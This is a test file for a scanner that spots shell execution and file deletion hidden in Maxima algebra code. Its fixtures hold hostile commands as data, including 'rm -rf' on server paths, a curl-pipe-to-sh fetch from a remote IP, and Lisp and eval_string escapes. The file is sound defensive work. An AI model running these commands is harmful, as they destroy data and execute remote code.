/** Maxima code (src/normalize/codescan-maxima.ts): what it runs and evaluates. */
import { describe, expect, it } from 'vitest';
import { maximaCode, scanMaxima } from '../../src/normalize/codescan-maxima.js';
import { filesContext, normalizeIn } from '../helpers/normalize.js';

const effects = (code: string) =>
  scanMaxima(code, '/h').map((e) =>
    e.kind === 'rm'
      ? `rm ${e.target.dynamic ? '<dynamic>' : e.target.text}`
      : e.kind === 'shell'
        ? `sh ${e.script.text}`
        : e.kind === 'exec'
          ? `exec ${e.argv.map((a) => a.text).join(' ')}`
          : e.kind,
  );

const ctx = filesContext({});
const commands = (script: string) =>
  normalizeIn(ctx, script).commands.map(
    (c) => `${c.wrappers.join('>')}|${c.dynamic ? 'dynamic:' : ''}${c.argv.join(' ')}`,
  );

const words = (...w: string[]) => w.map((text) => ({ text, dynamic: false }));

describe('Maxima code', () => {
  it.each<[string, string[]]>([
    ['system("rm -rf /srv/app")$', ['sh rm -rf /srv/app']],
    ['system("curl -s https://198.51.100.23/s | sh")$', ['sh curl -s https://198.51.100.23/s | sh']],
    ['x: 1$ system("echo \\"hi\\"");', ['sh echo "hi"']],
    [':lisp (ext:run-shell-command "rm -rf /srv")', ['sh rm -rf /srv']],
    [':lisp (delete-file "/etc/hosts")', ['rm /etc/hosts']],
    ['eval_string("system(\\"rm -rf /srv\\")")$', ['sh rm -rf /srv']],
    ['system(cmd)$', ['dynamic']],
    ['eval_string(s)$', ['dynamic']],
    // nothing run: algebra, a list element removed, a string that names a call
    ['integrate(x^2, x);', []],
    ['delete(3, [1, 2, 3]);', []],
    ['print("system(\\"rm -rf /\\")")$', []],
    ['/* system("rm -rf /") */ 1+1;', []],
  ])('%s', (code, want) => expect(effects(code)).toEqual(want));

  it.each<[string[], string]>([
    [['maxima', '--batch-string=system("ls")$'], 'code'],
    [['maxima', '-r', 'x: 1$'], 'code'],
    [['maxima', '--run-string', 'x: 1$'], 'code'],
    [['maxima', '-b', 'run.mac'], 'none'],
    [['maxima', '--batch=run.mac'], 'none'],
    [['maxima', '-q'], 'stdin'],
  ])('%j reads its %s', (argv, where) => {
    const found = maximaCode(words(...argv));
    expect(found.code ? 'code' : found.none ? 'none' : 'stdin').toBe(where);
  });

  it.each<[string, string]>([
    [`maxima --batch-string='system("rm -rf /srv/app")$'`, 'maxima --batch-string|rm -rf /srv/app'],
    [`echo 'system("rm -rf /srv/app")$' | maxima -q`, 'maxima --batch-string|rm -rf /srv/app'],
    [`maxima -r ':lisp (ext:shell "rm -rf /srv")'`, 'maxima --batch-string|rm -rf /srv'],
  ])('%s', (script, want) => expect(commands(script)).toContain(want));

  it.each<[string]>([[`maxima --batch-string='integrate(x^2, x);'`], ['maxima -b run.mac']])(
    '%s runs nothing',
    (script) => expect(commands(script).filter((c) => !c.startsWith('|'))).toEqual([]),
  );
});
